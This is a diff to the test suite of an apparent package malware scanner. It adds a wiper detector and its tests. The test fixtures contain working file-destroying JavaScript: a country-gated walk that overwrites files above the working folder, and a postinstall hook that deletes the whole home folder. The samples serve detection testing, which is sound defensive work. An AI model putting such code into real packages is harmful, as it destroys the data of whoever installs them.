@@ -10,13 +10,14 @@ import { exfiltration } from '../../src/detectors/exfiltration/index.js';
 import { obfuscatedCode } from '../../src/detectors/obfuscated-code/index.js';
 import { persistence } from '../../src/detectors/persistence/index.js';
 import { remoteCode } from '../../src/detectors/remote-code/index.js';
+import { wiper } from '../../src/detectors/wiper/index.js';
 import type { PackageDetector } from '../../src/detectors/types.js';
 import { analyzeJavaScript, assessObfuscation } from '../../src/analysis/javascript/index.js';
 import { fileBehaviour } from '../../src/analysis/behaviour/model.js';
 import { levelForScore, scoreFindings } from '../../src/report/levels.js';
 import { factsFromFixture, type FixtureFile } from '../support/package-fixture.js';
 
-const detectors = [exfiltration, remoteCode, obfuscatedCode, browserPayloadDetector, persistence] as PackageDetector[];
+const detectors = [exfiltration, remoteCode, obfuscatedCode, browserPayloadDetector, persistence, wiper] as PackageDetector[];
 
 function scan(files: Record<string, FixtureFile>, manifest: Record<string, unknown> = {}) {
   const facts = factsFromFixture({
@@ -438,6 +439,43 @@ if (!self.fetch) { self.fetch = fetchPolyfill; }
 `,
     }, { main: 'fetch.js' });
     expect(r.findings).toHaveLength(0);
+  });
+});
+
+describe('wiper', () => {
+  const walk = (destroy: string) => `const fs = require('fs'); const path = require('path'); const https = require('https');
+function wipe(dir) {
+  for (const f of fs.readdirSync(dir)) {
+    const p = path.join(dir, f);
+    try { if (fs.statSync(p).isDirectory()) wipe(p); else ${destroy}; } catch (e) {}
+  }
+}
+`;
+
+  it('a walk overwriting every file above the working folder, started after an IP geolocation lookup at load, is high', () => {
+    const r = scan({ 'index.js': `${walk("fs.writeFileSync(p, '\\u2764\\ufe0f')")}https.get('https://api.ipgeolocation.io/ipgeo?apiKey=k', (res) => {
+  let d = ''; res.on('data', (c) => (d += c));
+  res.on('end', () => { if (JSON.parse(d).country_name === 'Atlantis') wipe(process.cwd() + '/../../../'); });
+});
+module.exports = {};
+` });
+    expect(r.findings.find((f) => f.detector === 'wiper')?.data).toMatchObject({ reach: 'run when the package is loaded' });
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('deleting every file of the home folder from an install hook is high', () => {
+    const r = scan({ 'index.js': `${walk('fs.unlinkSync(p)')}wipe(require('os').homedir());\n` }, postinstall);
+    expect(r.ids).toContain('wiper/wipe');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('a cleaner walking a folder its caller names or its own cache folder is no wiper', () => {
+    const named = scan({ 'index.js': `${walk('fs.unlinkSync(p)')}module.exports = (dir) => wipe(dir);\n` });
+    expect(named.ids).not.toContain('wiper/wipe');
+    const cache = scan({ 'index.js': `${walk('fs.unlinkSync(p)')}wipe(require('path').join(require('os').homedir(), '.cache', 'my-tool'));\n` });
+    expect(cache.ids).not.toContain('wiper/wipe');
+    const copy = scan({ 'index.js': `${walk('fs.writeFileSync(p + ".bak", fs.readFileSync(p))')}wipe(require('os').homedir());\n` });
+    expect(copy.ids).not.toContain('wiper/wipe');
   });
 });
 
